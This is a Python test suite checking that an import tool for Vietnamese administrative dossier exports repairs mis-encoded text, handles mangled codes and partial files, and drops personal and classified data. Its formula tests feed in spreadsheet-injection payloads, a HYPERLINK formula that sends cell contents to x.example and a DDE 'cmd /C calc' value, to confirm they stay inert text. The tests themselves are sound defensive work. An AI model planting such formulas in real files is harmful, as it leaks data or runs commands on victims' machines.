"""Are dirty files, codes and texts taken as the domain reference says (its 4.3, rows 10 to 17)?"""

from __future__ import annotations

import csv
import shutil
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.db.intake.delivering import DOSSIER_HEADER, codes, dossier, write_table
from tests.db.intake.made import Cell, as_tcvn3, as_windows_1258, make_html, make_xls, make_xlsx
from tests.journeys.dirty import Office, Story, flags, told
from tests.journeys.installation import SAMPLES, Installation

MONDAY, TUESDAY = "2021-03-22", "2021-03-23"
DONE = "Đã trả kết quả"
SAMPLE = (SAMPLES / "ho_so.csv").read_text("utf-8")
ROWS = list(csv.reader(SAMPLE.splitlines()))
EIGHT = ("accepted", 8, 8)

# How the sample's text is written: every one of them says the same.
ENCODED: dict[str, Callable[[str], bytes]] = {
    "windows-1258": as_windows_1258,
    "TCVN3": lambda text: as_tcvn3(text.replace("–", "-")).encode("latin-1"),
    "UTF-8 read as windows-1252": lambda text: text.encode().decode("latin-1").encode(),
    "UTF-16": lambda text: text.encode("utf-16"),
    "letters taken apart": lambda text: unicodedata.normalize("NFD", text).encode(),
    "Ð for Đ": lambda text: text.replace("Đ", "Ð").encode(),
    "no-break spaces": lambda text: text.replace(" ", "\xa0").encode(),
    "invisible signs": lambda text: text.replace("UBND", "\u200bUB\u200dND").encode("utf-8-sig"),
}

REPAIRED = {
    "windows-1258": "windows-1258", "1258": "windows-1258", "TCVN3": "TCVN3",
    "UTF-8 read as windows-1252": "utf-8 read as windows-1252",
}  # fmt: skip


def says_the_same(office: Office, paths: list[Path]) -> None:
    """Each file alone is taken whole and unflagged, and tells what the sample itself tells."""
    office.deliver(SAMPLES / "ho_so.csv")
    expected = office.facts()
    for path in paths:
        answer = office.deliver(path)
        assert (path.name, told(answer), answer["flagged"]) == (path.name, EIGHT, [])
        repaired = REPAIRED.get(path.stem)
        line = f"the text was in {repaired} and has been set right (export it as UTF-8)"
        assert answer["warnings"] == ([line] if repaired else []), path.name
        assert office.facts() == expected, path.name


def texts_are_repaired(office: Office) -> None:
    paths = []
    for name, write in ENCODED.items():
        paths.append(office.folder / f"{name}.csv")
        paths[-1].write_bytes(write(SAMPLE))
    says_the_same(office, paths)


def a_file_is_known_by_its_content(office: Office) -> None:
    folder = office.folder
    cells: list[list[Cell]] = [[*row] for row in ROWS]
    book = make_xlsx(folder / "a workbook.csv", cells)
    pages = [make_html(folder / "page.xls", ROWS), make_html(folder / "1258.xls", [])]
    pages[1].write_bytes(as_windows_1258(pages[0].read_text("utf-8")))
    old = make_xls(folder / "an old workbook.xlsx", cells)
    written = []
    for name, mark in (("semicolons.csv", ";"), ("tabs.csv", "\t"), ("commas.xls", ",")):
        written.append(folder / name)
        with written[-1].open("w", encoding="utf-8-sig", newline="") as file:
            csv.writer(file, delimiter=mark).writerows(ROWS)
    says_the_same(office, [book, old, *pages, *written])


def a_comma_in_a_name_divides_nothing(office: Office) -> None:
    named = "Cấp đổi, cấp lại; xác nhận\tvà đính chính"
    row = dossier(codes(1)[0]) | {"Tên thủ tục": named}
    for mark in ",;\t":
        path = office.folder / f"{ord(mark)}.csv"
        with path.open("w", encoding="utf-8-sig", newline="") as file:
            csv.writer(file, delimiter=mark).writerows([list(row), list(row.values())])
        assert told(office.deliver(path)) == ("accepted", 1, 1)
    assert {" ".join(name.split()) for (name,) in office.kept("name", table="procedures")} == {
        " ".join(named.split())
    }


def printed_rates_are_not_believed(office: Office) -> None:
    header = ["Kỳ", "Đơn vị", "Lĩnh vực", "Số phiếu hợp lệ", "Rất hài lòng", "Hài lòng",
              "Bình thường", "Không hài lòng", "Tỷ lệ hài lòng (%)"]  # fmt: skip
    rows = [
        ["Hộ tịch", "58", "40", "16", "1", "1", "96,55"],
        ["Chứng thực", "1.200", "1,000", "100", "-", "100", "91.67"],
        ["Đất đai", "1 200", "1.000", "100", "100", "", "91,67%"],
        ["Xây dựng", "100", "50", "40", "5", "5", "99,99"],  # 90 by the counts
        ["Bảo trợ xã hội", "0", "0", "-", "#DIV/0!", "0", "#DIV/0!"],
    ]
    answer = office.table(header, *(["Quý I/2021", "UBND xã Bình Khánh", *row] for row in rows))
    assert told(answer) == ("accepted", 5, 5)
    assert [(f["row"], f["flag"]) for f in answer["flagged"]] == [(5, "printed_rate_differs")]
    assert office.kept("satisfied", "valid", table="surveys") == [
        (0, 0), (1100, 1200), (1100, 1200), (56, 58), (90, 100),
    ]  # fmt: skip
    assert office.readings("xa_binh_khanh", "satisfaction_services") == {
        "Hộ tịch": (56, 58), "Chứng thực": (1100, 1200), "Đất đai": (1100, 1200),
        "Xây dựng": (90, 100), "Bảo trợ xã hội": (0, 0),
    }  # fmt: skip


def a_partial_export_is_held(office: Office) -> None:
    title = "Từ ngày 01/01/2021 đến ngày 31/03/2021"
    other = [dossier(c, unit="UBND xã Lý Nhơn") for c in codes(5, "07")]
    whole = [dossier(code) for code in codes(25)]
    office.dossiers(*whole, *other, day=MONDAY, title=title)
    before = office.facts(), office.readings("xa_binh_khanh", "on_time", f"{MONDAY}T07:30")
    held = office.dossiers(*whole[:20], *other[:3], day=TUESDAY, title=title)
    assert told(held) == ("refused", 23, 0)
    assert held["reason"] == (
        "it has only 23 rows, the file of 22/03/2021 had 30: export all of it"
    )
    counted = office.readings("xa_binh_khanh", "on_time", f"{TUESDAY}T07:30")
    assert (office.facts(), counted) == before
    # One commune's own file is no partial export of the district's.
    assert told(office.dossiers(*whole[:4], day=TUESDAY, title=title)) == ("accepted", 4, 4)


def the_same_bytes_are_no_news(office: Office) -> None:
    office.deliver(SAMPLES / "ho_so.csv", MONDAY)
    before = office.installation.contents()
    again = office.folder / "ho so hom nay.csv"
    shutil.copy(SAMPLES / "ho_so.csv", again)
    answer = office.deliver(again, TUESDAY)
    assert told(answer) == ("unchanged", 8, 0)
    assert answer["reason"] == "the same file was taken on 22/03/2021"
    assert office.installation.contents() == before


def codes_are_mended_or_refused(office: Office) -> None:
    typed = [
        "  000.02.16.H29-210310-0001 ", "OOO.02.16.h29-21O310-0002",
        "000.02.16.H29 – 210310 — 0003", "０００.02.16.H29-210310-0004",
        "\xa0000.02.16.H29-210310-0005\u200b", "h29.16.2-2103l0-0006", "123/HS-BK",
        "2.00016E+15", "2,00016E+15",
    ]  # fmt: skip
    answer = office.dossiers(*map(dossier, typed), *map(dossier, codes(40, first=100)))
    assert told(answer) == ("accepted_with_rejects", 49, 47)
    assert flags(answer) == [("123/HS-BK", "odd_code"), ("h29.16.2-2103l0-0006", "odd_code")]
    assert [code for (code,) in office.kept("code")][:5] == codes(5)
    assert [(r["row"], r["value"]) for r in answer["rejects"]] == [
        (9, "2.00016E+15"), (10, "2,00016E+15"),
    ]  # fmt: skip
    assert all("export the column as text" in r["reason"] for r in answer["rejects"])


def going_backwards_is_flagged(office: Office) -> None:
    ended, vanished, moved, steady = codes(4)
    done = dossier(ended, status=DONE, finished="12/03/2021 10:00")
    rows = [dossier(vanished), dossier(moved), dossier(steady)]
    assert office.dossiers(done, *rows, day=MONDAY)["flagged"] == []
    answer = office.dossiers(
        dossier(ended), dossier(moved, due="25/03/2021 17:00"), dossier(steady), day=TUESDAY
    )
    assert flags(answer) == [
        (ended, "status_backwards"), (vanished, "not_in_the_file"), (moved, "due_moved"),
    ]  # fmt: skip
    assert office.kept("code", "status", "due_first", "due", "deadline", "day") == [
        (ended, 4, 20210315170000, 20210315170000, 20210315170000, 20210323),
        (vanished, 4, 20210315170000, 20210315170000, 20210315170000, 20210322),
        (moved, 4, 20210315170000, 20210325170000, 20210315170000, 20210323),
        (steady, 4, 20210315170000, 20210315170000, 20210315170000, 20210323),
    ]


# Each with a part in plain letters, which no way of writing them down would change.
NAME, CARD, PHONE = "Nguyễn KHUYETDANH", "079123456789", "0908765432"
SUBJECT, INVITATION = "Về phương án HAUCAN", "Mời họp GIAOBAN"


def people_and_secrets_are_kept_nowhere(office: Office) -> None:
    first, second = codes(2)
    people = {"Người nộp": NAME, "CCCD": CARD, "Điện thoại": PHONE, "Ghi chú": f"{NAME} {CARD}"}
    rows = [dossier(first) | people, dossier(second, unit="Sở Lạ") | people]
    header = [*DOSSIER_HEADER, *people]
    usual = ["15/03/2021", "UBND xã Bình Khánh", "Phòng Nội vụ", "Cơ quan hành chính", "Điện tử"]
    documents = [
        ["Số ký hiệu", "Ngày ban hành", "Đơn vị ban hành", "Nơi nhận", "Loại nơi nhận",
         "Hình thức gửi", "Độ mật", "Trích yếu", "Ghi chú"],
        ["215/UBND", *usual, "", INVITATION, CARD],
        ["9901/BCH", *usual, "Mật", SUBJECT, ""],
        ["9902/BCH", *usual, "Tối mật", SUBJECT, ""],
        ["9903/BCH", *usual, "", SUBJECT, "VB MẬT"],
        ["216/UBND", *usual[:2], NAME, "Công dân", "Điện tử", "", f"Trả lời đơn {NAME}", PHONE],
    ]  # fmt: skip
    said = []
    for path in (
        write_table(office.folder / "people.csv", rows, header),
        make_xlsx(office.folder / "people.xlsx",
                  [[*header], *([row.get(name, "") for name in header] for row in rows)]),
        make_xlsx(office.folder / "documents.xlsx", [[*row] for row in documents]),
    ):  # fmt: skip
        done, answer = office.imported(path)
        assert answer["loaded"] > 0
        said.append(done.out)
    assert answer["dropped"] == {"secret": 3}
    assert office.kept("number", table="documents") == [("215/UBND",), ("216/UBND",)]
    assert office.archived().count("215/UBND") == 1
    assert office.archived().count(first) == 2
    everything = "\n".join([*said, office.everything()])
    for hidden in ("KHUYETDANH", CARD, PHONE, "HAUCAN", "GIAOBAN", "9901", "9902", "9903"):
        assert hidden not in everything, hidden


LINK = '=HYPERLINK("http://x.example/?c="&A1,"Hộ tịch")'


def a_formula_stays_text(office: Office) -> None:
    first, second, third = codes(3)
    answer = office.dossiers(
        dossier(first, field=LINK),
        dossier(second, field="=1+1") | {"Tên thủ tục": "+cmd|' /C calc'!A0"},
        dossier(third, field="@SUM(1+1)", due="=TODAY()") | {"Tên thủ tục": "-2+3"},
    )
    assert told(answer) == ("accepted", 3, 3)
    assert flags(answer) == [(third, "bad_date:due")], "nothing was reckoned out of it"
    assert office.kept("name", table="fields") == sorted([(LINK,), ("=1+1",), ("@SUM(1+1)",)])
    assert {name for (name,) in office.kept("name", table="procedures")} == {
        "+cmd|' /C calc'!A0", "-2+3",
    }  # fmt: skip


def a_formulas_value_is_read(office: Office) -> None:
    row = [dossier(codes(1)[0]).get(name, "") for name in DOSSIER_HEADER]
    row[DOSSIER_HEADER.index("Lĩnh vực")] = LINK  # of which the workbook remembers a 7
    path = make_xlsx(office.folder / "formula.xlsx", [[*DOSSIER_HEADER], [*row]])
    assert told(office.deliver(path)) == ("accepted", 1, 1)
    assert office.kept("name", table="fields") == [("7",)]
    assert "HYPERLINK" not in office.everything()


@pytest.mark.parametrize(
    "story",
    [
        pytest.param(texts_are_repaired, id="10 encodings, fonts, Ð, NBSP are read as they meant"),
        pytest.param(a_file_is_known_by_its_content, id="11 a file is known by its content"),
        pytest.param(a_comma_in_a_name_divides_nothing, id="11 a comma in a name divides nothing"),
        pytest.param(printed_rates_are_not_believed, id="12 printed rates are not believed"),
        pytest.param(a_partial_export_is_held, id="13 a partial export is held"),
        pytest.param(the_same_bytes_are_no_news, id="13 the same bytes are no news"),
        pytest.param(codes_are_mended_or_refused, id="14 codes are mended or refused"),
        pytest.param(
            going_backwards_is_flagged, id="15 what goes backwards or vanishes is flagged"
        ),
        pytest.param(people_and_secrets_are_kept_nowhere, id="16 people and secrets are nowhere"),
        pytest.param(a_formula_stays_text, id="17 the text of a formula stays text"),
        pytest.param(a_formulas_value_is_read, id="17 of a workbook's formula the value is read"),
    ],
)
def test_a_dirty_file_is_taken(installation: Installation, tmp_path: Path, story: Story) -> None:
    exports = tmp_path / "exports"
    exports.mkdir()
    story(Office(installation=installation, folder=exports))
